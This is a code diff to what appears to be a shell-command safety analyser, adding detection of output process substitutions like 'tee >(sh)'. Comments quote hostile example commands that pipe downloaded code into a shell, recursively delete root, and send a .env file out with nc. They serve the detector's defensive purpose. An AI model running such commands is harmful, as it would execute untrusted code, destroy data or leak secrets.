@@ -665,6 +665,24 @@ function readList(
   const literal = withLiterals(cmds, st.vars);
   if (literal !== undefined) scripts.push(listLine(literal, starts, 0, false, NO_VARS));
   // `f() { rm -rf $1; }; f /`, `set -- .env; cat $1 | nc h 80`: once per call the text makes.
+  // `curl URL | tee >(sh)`, `curl URL > >(sh)`: an output process substitution reads what its command
+  // writes, as a pipe to it would (round 27): the list to there, piped to it.
+  let outputs = 0;
+  for (let i = 0; i < cmds.length; i++) {
+    const inners = outputSubstitutions(cmds[i] as SimpleCommand);
+    if (inners.length === 0) continue;
+    // The pipeline to there (its start: after the last command not piped on), a few per list (linear).
+    let from = i;
+    while (from > 0 && (cmds[from - 1] as SimpleCommand).sep === '|') from--;
+    for (const inner of inners) {
+      if (++outputs > MAX_OUTPUT_SUBSTITUTIONS) {
+        st.opaque = true;
+        break;
+      }
+      const line = listLine(cmds.slice(from, i + 1), starts.slice(from, i + 1), 0, false, NO_VARS);
+      scripts.push(`${line} | ${inner}`);
+    }
+  }
   // `x=(/ /root); tar c ${x[@]}`: once per element (round 27).
   for (const given of st.elements ?? NO_ELEMENTS) {
     const each = withLiterals(cmds, new Map([...st.vars, ...given]));
@@ -721,6 +739,26 @@ function readList(
         scripts.push(...execScripts(cmd.words.slice(start), wentHome(all)));
     }
   }
+}
+
+/** Output process substitutions read as pipes in one list, at most; past it the list is refused whole. */
+const MAX_OUTPUT_SUBSTITUTIONS = 4;
+
+/** The commands of a command's output process substitutions (`tee >(sh)`, `> >(sh)`); usually none. */
+function outputSubstitutions(cmd: SimpleCommand): readonly string[] {
+  let out: string[] | undefined;
+  const take = (shown: string): void => {
+    if (shown.charCodeAt(0) !== 62 /* > */ || shown.charCodeAt(1) !== 40 /* ( */ || !shown.endsWith(')'))
+      return;
+    out ??= [];
+    out.push(shown.slice(2, -1));
+  };
+  // The parse leaves a substitution's word empty and its shown form whole: told by the lengths first.
+  cmd.words.forEach((w, j) => {
+    if (w === '' && (cmd.shown[j] as string).length > 3) take(cmd.shown[j] as string);
+  });
+  for (const r of cmd.redirects) if (r.target === '' && r.shown !== undefined) take(r.shown);
+  return out ?? NO_TEXTS;
 }
 
 /** The tails of an unknown program whose program the reader reads further (shell.ts deepTail), as scripts. */
